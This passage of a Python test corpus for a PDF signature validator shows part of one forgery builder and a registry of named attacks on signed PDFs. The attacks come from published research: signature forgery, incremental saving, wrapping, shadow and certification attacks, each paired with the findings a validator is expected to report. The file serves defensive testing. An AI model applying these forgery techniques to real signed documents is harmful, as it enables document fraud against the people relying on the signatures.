        fields.append_signature_field(writer, fields.SigFieldSpec("sig_tredje", on_page=1, box=(72, 300, 292, 390)))
        widget = _field(writer, "sig_tredje").get_object()
        widget["/V"] = writer.add_object(generic.DictionaryObject({
            _name("/Type"): _name("/Sig"), _name("/Filter"): _name("/Adobe.PPKLite"),
            _name("/SubFilter"): _name("/ETSI.CAdES.detached"),
            _name("/Contents"): generic.ByteStringObject(b"\x30\x00"),
        }))
        writer.update_container(widget)
    return update(corpus.signed2, edit)


# --- the corpus -----------------------------------------------------------------------------------------------------
_CHANGED = frozenset({"page_changed", "object_changed", "form_filled", "field_changed", "annotation_added",
                      "field_added", "signed_field_changed", "unsigned_update", "catalog_changed"})
_COVER = frozenset({"contents_missing", "byterange_missing", "byterange_shape", "byterange_end", "gap",
                    "gap_owner", "signature_damaged", "digest"})
_FOREIGN = frozenset({"foreign_field"}) | _CHANGED

ATTACKS: tuple[Attack, ...] = (
    # CCS 2019 – universal signature forgery
    Attack("usf-contents-missing", "USF", usf_contents("missing"), _COVER, pdfsig_flags=True),
    Attack("usf-contents-null", "USF", usf_contents("null"), _COVER, pdfsig_flags=True),
    Attack("usf-contents-empty", "USF", usf_contents("empty"), _COVER, pdfsig_flags=True),
    Attack("usf-contents-zeros", "USF", usf_contents("zeros"), _COVER, pdfsig_flags=True),
    Attack("usf-byterange-missing", "USF", usf_byterange("missing"), _COVER, pdfsig_flags=True),
    Attack("usf-byterange-null", "USF", usf_byterange("null"), _COVER, pdfsig_flags=True),
    Attack("usf-byterange-empty", "USF", usf_byterange("empty"), _COVER, pdfsig_flags=True),
    Attack("usf-byterange-zeros", "USF", usf_byterange("zeros"), _COVER, pdfsig_flags=True),
    Attack("usf-byterange-negative", "USF", usf_byterange("negative"), _COVER, pdfsig_flags=True),
    Attack("usf-byterange-overlap", "USF", usf_byterange("overlap"), _COVER, pdfsig_flags=True),
    Attack("usf-no-filter", "USF", usf_no_filter, _COVER, pdfsig_flags=True),
    Attack("usf-replaced-dictionary", "USF", usf_replaced_dict, _COVER | _CHANGED, pdfsig_flags=True),
    # CCS 2019 – incremental saving
    Attack("isa-update", "ISA", isa_update, frozenset({"page_changed"}), pdfsig_flags=True),
    Attack("isa-without-xref", "ISA", isa_without_xref, frozenset({"structure"}), pdfsig_flags=True),
    Attack("isa-without-prev", "ISA", isa_without_prev, frozenset({"structure"}), pdfsig_flags=True),
    Attack("isa-extended-byterange", "ISA", isa_extended_byterange, frozenset({"byterange_end", "gap_owner",
                                                                              "signature_overridden"} | _COVER),
           pdfsig_flags=True),
    # CCS 2019 – signature wrapping
    Attack("swa-relocated-tail", "SWA", swa_relocated, frozenset({"structure", "gap"}), pdfsig_flags=True),
    Attack("swa-copied-dictionary", "SWA", swa_copied_dict, frozenset({"structure", "gap"}), pdfsig_flags=True),
    Attack("swa-then-second-signature", "SWA", swa_then_signed, frozenset({"structure", "gap"}),
           pdfsig_flags=False),
    # NDSS 2021 – shadow attacks
    Attack("shadow-hide-override", "Shadow hide v1", hide_override(same_number=True),
           frozenset({"object_changed"}), pdfsig_flags=True),
    Attack("shadow-hide-override-renumbered", "Shadow hide v1", hide_override(same_number=False),
           frozenset({"structure"}), pdfsig_flags=True),
    Attack("shadow-hide-xref-redirect", "Shadow hide v1", hide_xref_redirect, frozenset({"structure"}),
           pdfsig_flags=True),
    Attack("shadow-hide-form-over-text", "Shadow hide v2", hide_form("form-over-text"), _FOREIGN,
           pdfsig_flags=True, refused_at_signing="form-over-text"),
    Attack("shadow-hide-form-over-form", "Shadow hide v2", hide_form("form-over-form"), _FOREIGN,
           pdfsig_flags=True, refused_at_signing="form-over-form"),
    Attack("shadow-replace-overlay", "Shadow replace v1", replace_overlay, _FOREIGN, pdfsig_flags=True,
           refused_at_signing="prefilled"),
    Attack("shadow-replace-empty-invisible", "Shadow hide-and-replace (issue 13)", replace_empty_invisible,
           _FOREIGN, pdfsig_flags=True, refused_at_signing="empty-invisible"),
    Attack("shadow-replace-font", "Shadow replace v2", replace_font, frozenset({"object_changed"}),
           pdfsig_flags=True),
    Attack("shadow-hide-and-replace-references", "Shadow hide-and-replace v1", hide_and_replace_references,
           frozenset({"page_changed"}), pdfsig_flags=True),
    Attack("shadow-hide-and-replace-dangling", "Shadow hide-and-replace", hide_and_replace_dangling,
           frozenset({"dangling_reference"}), pdfsig_flags=True, refused_at_signing="dangling"),
    Attack("shadow-hide-and-replace-xref-only", "Shadow hide-and-replace v2", hide_and_replace_xref_only,
           frozenset({"structure"}), pdfsig_flags=True, refused_at_signing="free-shadow"),
    # S&P 2021 – certification attacks
    Attack("eaa-freetext", "EAA", evil_annotation("/FreeText"), frozenset({"annotation_added"}), pdfsig_flags=True),
    Attack("eaa-stamp", "EAA", evil_annotation("/Stamp"), frozenset({"annotation_added"}), pdfsig_flags=True),
    Attack("eaa-square", "EAA", evil_annotation("/Square"), frozenset({"annotation_added"}), pdfsig_flags=True),
    Attack("eaa-redact", "EAA", evil_annotation("/Redact"), frozenset({"annotation_added"}), pdfsig_flags=True),
    Attack("eaa-link-with-appearance", "EAA", evil_annotation("/Link"), frozenset({"annotation_added"}),
           pdfsig_flags=True),
    Attack("eaa-after-both-signatures", "EAA", evil_annotation("/FreeText", on="signed2"),
           frozenset({"annotation_added"}), pdfsig_flags=True),
    Attack("ssa-unsigned-field", "SSA", sneaky_signature(signed=False), frozenset({"field_added",
                                                                                   "annotation_added"}),
           pdfsig_flags=True),
    Attack("ssa-signed-field", "SSA", sneaky_signature(signed=True), frozenset({"field_added", "field_not_listed",
                                                                              "foreign_field"}), pdfsig_flags=False),
    Attack("ssa-empty-field-appearance", "SSA", empty_field_appearance, frozenset({"signed_field_changed"}),
           pdfsig_flags=True),
    # issue 13 and the changes that were already caught
    Attack("signed-appearance-changed", "issue 13", signed_appearance_changed,
           frozenset({"signed_field_changed"}), pdfsig_flags=True),
    Attack("moved-widget", "issue 13", moved_widget, frozenset({"signed_field_changed"}), pdfsig_flags=True),
    Attack("swapped-values", "issue 13", swapped_values, frozenset({"signature_replaced",
                                                                    "signature_overridden"}), pdfsig_flags=True),
    Attack("rogue-ca", "issue 13", rogue_ca, frozenset({"untrusted"}), trust=True),
    Attack("wrong-person", "issue 13", wrong_person, frozenset({"wrong_signer"})),
    Attack("broken-xref", "issue 13", broken_xref, frozenset({"structure"})),
    Attack("damaged-extra-field", "issue 13", damaged_extra_field, frozenset({"field_added", "field_not_listed",
                                                                              "byterange_missing"}),
           pdfsig_flags=True),
)
